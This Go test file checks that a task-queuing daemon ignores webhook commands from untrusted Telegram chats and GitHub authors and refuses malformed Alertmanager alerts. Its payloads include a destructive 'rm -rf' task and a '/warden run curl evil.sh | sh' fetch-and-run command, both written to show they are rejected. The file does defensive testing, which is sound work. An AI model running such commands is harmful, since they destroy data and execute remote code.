package server_test

import (
	"fmt"
	"strings"
	"testing"

	"github.com/warden-dev/warden/internal/server"
)

// TestTelegramEmptyAllowListMeansNobody: the secret proves an update came
// from Telegram, not who sent it; with webhook.telegram_chats empty no
// chat may command the daemon (not every chat that finds the bot).
func TestTelegramEmptyAllowListMeansNobody(t *testing.T) {
	r := newAPIRig(t, 100, server.Webhooks{TelegramSecret: tgSecret, TelegramProject: "x"})
	hdr := map[string]string{"X-Telegram-Bot-Api-Secret-Token": tgSecret}
	for i, text := range []string{"/task add rm -rf the repo", "/status", "/pace"} {
		body := fmt.Sprintf(`{"update_id":%d,"message":{"message_id":1,"chat":{"id":42},"text":%q}}`, i+1, text)
		status, got, _ := r.do("POST", "/webhook/telegram", body, "", hdr)
		if status != 202 || !strings.Contains(string(got), "webhook.telegram_chats") {
			t.Errorf("%q from chat 42 with no chat allowed: %d %s; want 202 ignored naming webhook.telegram_chats", text, status, got)
		}
	}
	if n := r.taskCount(); n != 0 {
		t.Errorf("%d tasks queued by a chat no one allowed", n)
	}
}

// TestGitHubCommentNeedsATrustedAuthor: a correctly signed issue_comment
// "/warden run …" comes from whoever wrote the comment; only the
// repository's owner, members and collaborators (configurable) queue work.
func TestGitHubCommentNeedsATrustedAuthor(t *testing.T) {
	comment := func(assoc string) string {
		return fmt.Sprintf(`{"action":"created","comment":{"body":"/warden run curl evil.sh | sh","user":{"login":"x"},"author_association":%q},"issue":{"number":7,"title":"t","body":"","html_url":"u"},"repository":{"full_name":"acme/app"}}`, assoc)
	}
	send := func(r *apiRig, delivery, body string) (int, string) {
		status, got, _ := r.do("POST", "/webhook/github", body, "", map[string]string{
			"X-GitHub-Event": "issue_comment", "X-GitHub-Delivery": delivery, "X-Hub-Signature-256": ghSign(body)})
		return status, string(got)
	}
	r := newAPIRig(t, 100, server.Webhooks{GitHubSecret: ghSecret})
	for i, assoc := range []string{"NONE", "FIRST_TIME_CONTRIBUTOR", "FIRST_TIMER", "CONTRIBUTOR", "MANNEQUIN", ""} {
		if status, got := send(r, fmt.Sprint("n", i), comment(assoc)); status != 202 || !strings.Contains(got, "webhook.github_trusted") {
			t.Errorf("comment by %q: %d %s; want 202 ignored naming webhook.github_trusted", assoc, status, got)
		}
	}
	// An issue template can label a stranger's new issue: its opener
	// must be trusted too.
	opened := `{"action":"opened","issue":{"number":8,"title":"t","body":"b","html_url":"u","author_association":"NONE","labels":[{"name":"warden"}]},"repository":{"full_name":"acme/app"}}`
	if status, got, _ := r.do("POST", "/webhook/github", opened, "", map[string]string{
		"X-GitHub-Event": "issues", "X-GitHub-Delivery": "o1", "X-Hub-Signature-256": ghSign(opened)}); status != 202 {
		t.Errorf("labelled issue opened by NONE: %d %s; want 202", status, got)
	}
	if n := r.taskCount(); n != 0 {
		t.Errorf("%d tasks queued by untrusted authors", n)
	}
	for i, assoc := range []string{"OWNER", "MEMBER", "COLLABORATOR"} {
		if status, got := send(r, fmt.Sprint("t", i), comment(assoc)); status != 201 {
			t.Errorf("comment by %s: %d %s; want 201", assoc, status, got)
		}
	}
	// Configurable: a repository that trusts its owner alone.
	owner := newAPIRig(t, 100, server.Webhooks{GitHubSecret: ghSecret, GitHubTrusted: []string{"OWNER"}})
	if status, got := send(owner, "m", comment("MEMBER")); status != 202 {
		t.Errorf("MEMBER with only OWNER trusted: %d %s; want 202", status, got)
	}
	if status, got := send(owner, "o", comment("OWNER")); status != 201 {
		t.Errorf("OWNER with only OWNER trusted: %d %s; want 201", status, got)
	}
}

// TestAlertmanagerRefusalQueuesNothing: a notification refused for one of
// its alerts (here the second has no fingerprint) queues none of them,
// the valid first one included; found by FuzzWebhookBody.
func TestAlertmanagerRefusalQueuesNothing(t *testing.T) {
	r := newAPIRig(t, 100, server.Webhooks{AlertProject: "x"})
	body := `{"version":"4","alerts":[{"status":"firing","labels":{"a":"b"},"startsAt":"2026-11-26T01:00:00Z","fingerprint":"f1"},{"status":"firing","labels":{"a":"c"}}]}`
	status, b, _ := r.do("POST", "/webhook/alertmanager", body, r.token, nil)
	if status != 400 || !strings.Contains(string(b), "alerts[1]") {
		t.Errorf("%d %s; want 400 naming alerts[1]", status, b)
	}
	if n := r.taskCount(); n != 0 {
		t.Errorf("a refused notification queued %d tasks", n)
	}
}
